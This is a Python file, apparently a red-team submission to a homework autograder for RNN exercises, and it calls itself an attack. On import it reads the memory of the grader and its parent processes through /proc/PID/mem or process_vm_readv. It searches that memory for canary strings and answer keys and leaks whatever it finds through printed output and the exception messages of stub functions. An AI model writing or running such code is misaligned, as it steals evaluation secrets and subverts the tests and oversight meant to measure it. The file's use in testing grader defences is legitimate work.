"""Attack: read the grader's memory, where its canaries and answers live.

The grader process holds its environment (with the harness's canary variable), the
rubric, the answer key's source and what it computed from it. At import, for its
ancestors up to run_autograder (never beyond) and the grader's other processes
(command line with "-m autograder", "run_autograder" or "--zygote"), it reads the
readable mappings listed in /proc/PID/maps through /proc/PID/mem (and, where that is
refused, the first ones with process_vm_readv), at most 64 MiB per process and 10 s in
all, and looks for "CANARY", "AG_CANARY_ENV" and "answer_key" (the harness's canaries
all start "CANARY"). What it finds is printed and raised in every function's exception
message. Answers nothing: 0 points.
"""

import ctypes
import os
import platform
import re
import struct
import time

NEEDLES = re.compile(rb"(CANARY|AG_CANARY_ENV|answer_key)[\x20-\x7e]{0,120}")
GRADER_WORDS = (b"-m\0autograder", b"run_autograder", b"--zygote")
VM_READV = {"x86_64": 310, "aarch64": 270}.get(platform.machine())
PER_PROCESS, DEADLINE = 64 << 20, time.monotonic() + 10
FOUND, LOG = {}, []


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return stream.read()
    except OSError:
        return b""


def targets():
    """Its ancestors up to run_autograder (never beyond: the rest of the machine is not the
    grader's), and the grader's other processes."""
    pids, pid = [], _parent(os.getpid())
    while pid > 1:
        pids.append(pid)
        if b"run_autograder" in _cmdline(pid):
            break
        pid = _parent(pid)
    pids += [int(e) for e in os.listdir("/proc") if e.isdigit() and any(w in _cmdline(e) for w in GRADER_WORDS)]
    return [p for p in dict.fromkeys(pids) if p != os.getpid()]


def regions(pid):
    with open(f"/proc/{pid}/maps") as stream:
        for line in stream:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            special = line.rstrip().endswith(("[vvar]", "[vsyscall]"))
            if fields[1].startswith("r") and not special and end - start < 1 << 28:
                yield start, end


def search(pid, data):
    for match in NEEDLES.finditer(data):
        FOUND.setdefault(match.group(0).decode("ascii", "replace"), pid)


def through_mem(pid):
    budget = PER_PROCESS
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end in regions(pid):
            for offset in range(start, end, 1 << 20):
                if budget <= 0 or time.monotonic() > DEADLINE:
                    return
                try:
                    memory.seek(offset)
                    chunk = memory.read(min(1 << 20, end - offset))
                except (OSError, OverflowError, ValueError):
                    break
                budget -= len(chunk)
                search(pid, chunk)


def through_readv(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    buffer = ctypes.create_string_buffer(1 << 20)
    for start, end in list(regions(pid))[:16]:
        local = struct.pack("QQ", ctypes.addressof(buffer), min(1 << 20, end - start))
        remote = struct.pack("QQ", start, min(1 << 20, end - start))
        got = libc.syscall(ctypes.c_long(VM_READV), ctypes.c_long(pid), ctypes.c_char_p(local), ctypes.c_long(1),
                           ctypes.c_char_p(remote), ctypes.c_long(1), ctypes.c_long(0))
        if got < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        search(pid, buffer.raw[:got])


for _pid in targets():
    if time.monotonic() > DEADLINE:
        break
    for _how in (through_mem, through_readv):
        try:
            _how(_pid)
            LOG.append(f"{_pid}: read by {_how.__name__}")
            break
        except Exception as _error:  # noqa: BLE001
            LOG.append(f"{_pid} {_how.__name__}: {_error}"[:100])
TEXT = " | ".join(f"{pid}: {text}" for text, pid in FOUND.items())[:6000]
print("proc_mem_parent:", "; ".join(LOG)[:2000])
print("LEAK " + (TEXT or "nothing found"))


def leak():
    raise RuntimeError("LEAK " + (TEXT[:3000] or "nothing found: " + "; ".join(LOG)[:500]))


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak()


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    leak()


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak()


def rnn_b_f2(z):
    leak()


def rnn_b_next_input(p_t):
    leak()


def rnn_b_dloss_dx_depends_on():
    leak()
